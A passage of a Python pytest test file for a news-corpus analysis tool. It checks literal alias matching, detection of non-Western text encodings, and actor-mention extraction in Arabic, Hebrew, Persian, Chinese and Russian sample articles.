    (tmp_path / "literal.txt").write_text(f"Literal\nThe code {SOUP} appeared once. Then a|b and (x.", encoding="utf-8")
    (tmp_path / "other.txt").write_text(
        "Other\nAnything at all, a or b, x and (y) [z] {w} ^ $ .* + ? with no literal alias.", encoding="utf-8"
    )
    actors = tmp_path / "soup.toml"
    actors.write_text(toml, encoding="utf-8")
    code, report, _ = run_cli(capsys, str(tmp_path / "literal.txt"), str(tmp_path / "other.txt"), "--actors", str(actors))
    assert code == 0
    by_title = {a["title"]: a for a in report["articles"]}
    assert by_title["Literal"]["actors"] == [{"actor": "Soup", "type": "organization", "origin": "dictionary", "mentions": 3}]
    assert by_title["Other"]["actors"] == []
    analysis = analyze_corpus(load_corpus([tmp_path / "literal.txt"]), dictionary, workers=1)
    assert list(analysis.mentions["surface"]) == [SOUP, "a|b", "(x"]


# ------------------------------------------------------------------------ non-English and RTL


@pytest.mark.parametrize(
    ("text", "encoding"),
    [
        ("Иран просит поддержки\nМинистр прибыл в Москву. Он встретился с Путиным.", "cp1251"),
        ("伊朗请求俄罗斯支持\n伊朗外长周一抵达莫斯科。他与普京举行了会谈。", "utf-16-le"),
        ("إيران تطلب دعم روسيا\nقال وزير الخارجية إن طهران تريد دعماً أقوى من موسكو.", "utf-16-be"),
    ],
)
def test_non_western_encodings_are_detected(text: str, encoding: str) -> None:
    """A Cyrillic code page, and UTF-16 without a BOM, read as the right characters."""
    corpus = load_uploads([("story.txt", text.encode(encoding))])
    assert corpus.errors == ()
    title, body = text.split("\n")
    assert (corpus.articles[0].title, corpus.articles[0].text) == (title, body)


WORLD = {
    "ar.txt": ("إيران تطلب دعم روسيا", "قال وزير الخارجية إن طهران تريد دعماً أقوى من موسكو. وأضاف أن المحادثات مستمرة. التقى الوفدان في موسكو."),
    "he.txt": ("איראן מבקשת תמיכה", "שר החוץ נפגש עם נשיא רוסיה במוסקבה. השיחות נמשכו שעות. לא פורסמו פרטים."),
    "fa.txt": ("ایران از روسیه حمایت خواست", "وزیر امور خارجه ایران به مسکو سفر کرد. او با پوتین دیدار کرد."),
    "zh.txt": ("伊朗请求俄罗斯支持", "伊朗外长周一抵达莫斯科。他与普京举行了会谈。双方讨论了核问题！"),
    "ru.txt": ("Иран просит поддержки у России", "Министр прибыл в Москву. Он встретился с Путиным. Переговоры продолжались несколько часов."),
}
WORLD_SENTENCES = {"ar.txt": 3, "he.txt": 3, "fa.txt": 2, "zh.txt": 3, "ru.txt": 3}
WORLD_ACTORS = """
[[actor]]
name = "Moscow"
type = "country"
aliases = ["موسكو", "מוסקבה", "مسکو", "Москву"]

[[actor]]
name = "Putin"
type = "person"
aliases = ["پوتین", "Путиным", "普京"]
"""


def test_non_english_and_right_to_left_texts_load_and_analyse(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    corpus = load_uploads([(name, f"{title}\n{body}".encode()) for name, (title, body) in WORLD.items()])
    assert corpus.errors == ()
    assert {a.path: (a.title, a.text) for a in corpus.articles} == WORLD
    dictionary = parse_actor_dictionary(WORLD_ACTORS, source="world.toml")
    analysis = analyze_corpus(corpus, dictionary, workers=1)
    assert_offsets_exact(analysis, corpus)
    path_of = {a.id: a.path for a in corpus.articles}
    sentences = analysis.sentences.assign(path=analysis.sentences["article_id"].map(path_of))
    assert sentences.groupby("path").size().to_dict() == WORLD_SENTENCES
    for article in corpus.articles:
        keywords = analysis.keywords.loc[analysis.keywords["article_id"] == article.id, "keyword"]
        assert len(keywords) > 0
        assert all(k.casefold() in article.text.casefold() for k in keywords)
    mentions = analysis.mentions.assign(path=analysis.mentions["article_id"].map(path_of))
    mentions = mentions.loc[mentions["origin"] == "dictionary"]  # discovery reads English capitals
    # Whole-word matching: "موسكو" and "Москву" are words; "普京" sits between CJK characters
    # with no spaces, so it is not a whole word and is not found (a known limit of the matcher).
    assert sorted(zip(mentions["path"], mentions["surface"])) == [
        ("ar.txt", "موسكو"), ("ar.txt", "موسكو"), ("fa.txt", "مسکو"), ("fa.txt", "پوتین"),
        ("ru.txt", "Москву"), ("ru.txt", "Путиным"),
    ]
    folder = tmp_path / "world"
    folder.mkdir()
    for name, (title, body) in WORLD.items():
        (folder / name).write_text(f"{title}\n{body}", encoding="utf-8")
    code, report, err = run_cli(capsys, str(folder))
    assert code == 0 and err == "" and report["errors"] == []
    assert sorted(a["title"] for a in report["articles"]) == sorted(t for t, _ in WORLD.values())
